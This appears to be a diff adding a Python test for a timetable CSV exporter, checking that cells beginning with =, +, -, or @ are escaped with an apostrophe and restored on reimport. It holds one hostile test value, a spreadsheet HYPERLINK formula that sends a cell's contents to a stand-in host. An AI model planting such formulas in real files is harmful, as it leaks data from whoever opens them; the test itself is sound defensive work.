@@ -183,3 +183,27 @@ def test_the_export_writes_them_back_and_reimports_the_same(store: Store, tmp_pa
     text = tcsv.export_text(store)
     assert "1,12:30,13:15,,,,,,,0,Lunch" in text
     assert "Priya Host (host officer)" in text and "Dana Observer" in text
+
+
+def test_a_cell_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_it_was(
+    team_store: Store, tmp_path: Path, passphrase: str
+) -> None:
+    """A group or a room named in a colleague's bundle ("=HYPERLINK(…)") must not run when the export is opened."""
+    hostile = '=HYPERLINK("http://example.test/?"&A1,"Foster carers")'
+    tcsv.import_text(
+        team_store, GOOD.replace("Foster carers", hostile.replace('"', '""').join('""')).replace("Room 2", "-2 floor")
+    )
+    exported = list(csv.reader(io.StringIO(tcsv.export_text(team_store))))
+    cells = [cell for row in exported for cell in row]
+    assert "'" + hostile in cells and "'-2 floor" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    path = tmp_path / "timetable.csv"
+    tcsv.export_file(team_store, path)
+    other = review.create_review(
+        tmp_path / "other.peerdesk", passphrase, review.Essentials("Westfold", "", "Alex Reviewer")
+    )
+    with other:
+        add_colleague(other)
+        tcsv.import_file(other, path)  # read back, the apostrophe goes
+        assert {g.name for g in timetable.timetable(other).groups} >= {hostile}
+        assert tcsv.export_text(other) == tcsv.export_text(team_store)
